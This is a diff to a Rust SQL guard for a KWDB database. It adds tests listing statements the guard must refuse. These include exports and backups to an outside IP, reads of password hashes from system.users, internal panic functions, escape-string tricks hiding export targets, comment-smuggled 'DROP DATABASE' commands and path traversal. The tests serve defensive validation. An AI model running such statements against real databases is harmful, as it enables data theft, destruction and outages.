@@ -272,19 +272,25 @@ pub fn analyze_bound(
     if engine == Engine::MySql {
         return analyze_mysql(database, sql);
     }
-    if engine == Engine::Kwdb
-        && let Some(kwdb_only) = super::kwdb::classify(sql)
-    {
-        return kwdb_only.map(|access| Analysis {
-            access,
-            functions: Vec::new(),
-        });
-    }
     let (text, tokens) = resolved_tokens(engine, sql)?;
+    if engine == Engine::Kwdb {
+        super::kwdb::check_tokens(&tokens)?;
+    }
     // Names first, from the tokens: a refused function is named even where the parser fails.
     let mut functions = token_functions(engine, &tokens);
     for f in &functions {
         check_name(engine, &f.name)?;
+    }
+    if engine == Engine::Kwdb
+        && let Some(kwdb_only) = super::kwdb::classify_tokens(&tokens)
+    {
+        // The functions of a `SHOW` or an `EXPORT … FROM SELECT` were checked by name above;
+        // on a read grant the server is asked about their volatility too.
+        let mut functions: Vec<FunctionRef> =
+            functions.into_iter().filter(|f| !f.attribute).collect();
+        functions.sort();
+        functions.dedup();
+        return kwdb_only.map(|access| Analysis { access, functions });
     }
     let statements = Parser::parse_sql(dialect(engine), &text)
         .map_err(|e| SqlRefusal::Unparseable(e.to_string()))?;
@@ -1475,6 +1481,118 @@ mod tests {
             analyze_for(Engine::MySql, "SELECT * FROM app.t"),
             Err(SqlRefusal::OutsideSchema { .. })
         ));
+    }
+
+    fn kwdb(sql: &str) -> Result<Access, SqlRefusal> {
+        analyze_for(Engine::Kwdb, sql).map(|a| a.access)
+    }
+
+    #[test]
+    fn kwdb_dialect_refusals() {
+        for sql in [
+            "SET CLUSTER SETTING server.time_until_store_dead = '1m'",
+            "set cluster setting kv.rangefeed.enabled = true",
+            "SET my.custom_setting = 'x'",
+            "SET application_name = 'x'",
+            "RESET ALL",
+            "CANCEL QUERY '1'",
+            "CANCEL SESSION '1'",
+            "CANCEL JOBS (SELECT job_id FROM [SHOW JOBS])",
+            "PAUSE JOB 1",
+            "RESUME JOB 1",
+            "BACKUP DATABASE shop TO 'http://10.0.0.9/x'",
+            "RESTORE DATABASE shop FROM 'nodelocal://2/x'",
+            "CREATE CHANGEFEED FOR TABLE t INTO 'kafka://10.0.0.9:9092'",
+            "EXPERIMENTAL CHANGEFEED FOR t",
+            "SELECT * FROM t AS OF SYSTEM TIME '-1h'",
+            "SELECT * FROM t AS OF SYSTEM TIME follower_read_timestamp()",
+            "SELECT * FROM [DELETE FROM t RETURNING id]",
+            "SELECT * FROM [ SHOW JOBS ]",
+            "SELECT * FROM [53 AS t]",
+            "SELECT crdb_internal.force_panic('x')",
+            "SELECT CRDB_INTERNAL.unsafe_upsert_descriptor(1, 'x')",
+            "SELECT kwdb_internal.set_vmodule('x')",
+            "SELECT \"crdb_internal\".\"force_error\"('x', 'y')",
+            "SELECT * FROM crdb_internal.cluster_queries",
+            "SELECT * FROM shop.crdb_internal.node_sessions",
+            "SELECT * FROM kwdb_internal.cluster_settings",
+            "SELECT username, \"hashedPassword\" FROM system.users",
+            "SELECT * FROM system.public.settings",
+            "SHOW QUERIES",
+            "SHOW CLUSTER SESSIONS",
+            "SHOW STATEMENTS",
+            "SHOW TRACE FOR SESSION",
+            "SHOW JOBS SELECT id FROM t",
+            "SHOW JOBS (SELECT crdb_internal.force_panic('x'))",
+            "SHOW JOBS WHEN COMPLETE [SELECT 1]",
+            "EXPORT INTO CSV 'nodelocal://1/e' FROM SELECT crdb_internal.force_panic('x')",
+        ] {
+            let refusal = kwdb(sql);
+            assert!(refusal.is_err(), "{sql}: {refusal:?}");
+        }
+        assert!(
+            kwdb("SET CLUSTER SETTING a = 1")
+                .err()
+                .is_some_and(|e| e.to_string().contains("cluster settings")),
+        );
+        // What the bundled KWDB adapter sends still passes.
+        for (sql, access) in [
+            ("SELECT version()", Access::Read),
+            ("SHOW DATABASES", Access::Read),
+            ("SHOW JOBS", Access::Read),
+            (
+                "SELECT sum((metrics->>'ranges.unavailable')::DECIMAL)::INT, sum((metrics->>'ranges.underreplicated')::DECIMAL)::INT FROM kwdb_internal.kv_store_status",
+                Access::Read,
+            ),
+            ("SELECT count(*) FROM shop.orders", Access::Read),
+            (
+                "EXPORT INTO CSV \"nodelocal://1/upshift/export-1/shop\" FROM DATABASE shop WITH privileges, comment",
+                Access::Backup,
+            ),
+            (
+                "EXPORT USERS TO SQL \"nodelocal://1/upshift/export-1/users\"",
+                Access::Backup,
+            ),
+            (
+                "EXPORT CLUSTER SETTING TO SQL \"nodelocal://1/upshift/export-1/settings\"",
+                Access::Backup,
+            ),
+            (
+                "IMPORT DATABASE CSV DATA (\"nodelocal://1/upshift/export-1/shop\") WITH privileges",
+                Access::Restore,
+            ),
+            (
+                "IMPORT CLUSTER SETTING SQL DATA (\"nodelocal://1/upshift/export-1/settings/clustersetting.sql\")",
+                Access::Restore,
+            ),
+        ] {
+            assert_eq!(kwdb(sql), Ok(access), "{sql}");
+        }
+        assert_eq!(kwdb("SELECT ARRAY[1, 2][1]"), Ok(Access::Read));
+    }
+
+    #[test]
+    fn kwdb_export_paths_cannot_hide_behind_escapes_comments_or_parameters() {
+        for sql in [
+            // The real target is an escape string; a harmless option carries the checked path.
+            "EXPORT INTO CSV e'http\\x3a//10.0.0.9:8000/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            "EXPORT INTO CSV U&'http\\003a//10.0.0.9/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            "EXPORT INTO CSV $$http://10.0.0.9/x$$ FROM DATABASE shop",
+            "EXPORT INTO CSV $1 FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            // A quote inside a comment does not hide a second statement.
+            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop -- \"\n; DROP DATABASE shop; --\"",
+            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop /* ' */; DROP DATABASE shop",
+            "EXPORT INTO CSV 'nodelocal://1/../../etc' FROM DATABASE shop",
+            "EXPORT INTO CSV 'nodelocal://1/ok\\..\\..' FROM DATABASE shop",
+        ] {
+            assert!(kwdb(sql).is_err(), "{sql}: {:?}", kwdb(sql));
+        }
+        assert_eq!(
+            kwdb(
+                "/* a comment */ EXPORT INTO CSV 'nodelocal://1/e/shop' FROM DATABASE shop WITH delimiter = ';'"
+            ),
+            Ok(Access::Backup)
+        );
     }
 
     #[test]
